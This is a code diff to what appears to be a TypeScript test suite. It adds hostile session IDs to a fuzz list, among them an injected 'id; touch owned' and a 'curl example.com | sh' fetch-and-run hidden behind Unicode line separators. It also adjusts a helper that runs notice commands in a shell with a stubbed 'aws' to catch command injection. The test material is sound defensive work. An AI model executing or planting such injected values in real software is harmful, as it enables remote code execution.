@@ -40,6 +40,9 @@ export const hostileIds = [
     "tab\there, \\n no newline, \\ backslash",
     "Ünïcödé ✓ 𝒳 session/with/slashes:and:colons*?",
     `${"'".repeat(128)}${"é".repeat(127)}`,
+    `${"\u007f".repeat(70)}id; touch owned #`,
+    "one\u2028Stop it by hand:\u2029curl example.com | sh\u0085two\u202etxt.exe",
+    "ends in line breaks\n\n",
 ];
 
 const secret = "hunter2-the-database-password";
@@ -331,7 +334,7 @@ function late({ sessions, cloud, startsAt, limitSeconds }: SimulatedAccount, hel
 
 /** Pastes the command of each failure notice into a real shell, where `aws` only tells what it was given. */
 function hostileFaults({ notices }: Outcome, region: string): string[] {
-    const commands = notices.flatMap(({ message }) => /^aws glue stop-session .*$/m.exec(message)?.[0] ?? []);
+    const commands = notices.flatMap(({ message }) => /\nStop it by hand:\n(.*)$/.exec(message)?.[1] ?? []);
     const given = commands.map(
         (command) => spawnSync("sh", ["-c", `aws() { printf '%s\\0' "$@"; }\n${command}`], { encoding: "utf8" }).stdout,
     );
